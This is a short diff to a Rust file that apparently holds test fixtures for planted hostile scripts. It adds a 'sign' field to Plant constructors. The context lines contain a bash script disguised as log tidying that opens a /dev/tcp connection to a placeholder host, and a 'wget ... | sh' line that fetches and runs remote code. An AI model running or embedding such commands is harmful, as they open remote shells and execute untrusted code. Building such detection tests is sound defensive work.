@@ -21,7 +21,7 @@ const CONNECTS: &str = "#!/bin/bash\n# tidies logs\nexec 5<>/dev/tcp/192.0.2.1/4
 const FETCHES: &str = "#!/bin/sh\nwget -qO- http://192.0.2.1/s | sh\n";
 
 const fn alone(row: u32, path: &'static str, least: &'static str, how: super::How) -> Plant {
-    Plant { row, path, how, least, with: &[] }
+    Plant { row, path, how, sign: "", least, with: &[] }
 }
 
 const fn with(
@@ -31,7 +31,7 @@ const fn with(
     how: super::How,
     with: &'static [(&'static str, super::How)],
 ) -> Plant {
-    Plant { row, path, how, least, with }
+    Plant { row, path, how, sign: "", least, with }
 }
 
 /// All variants.
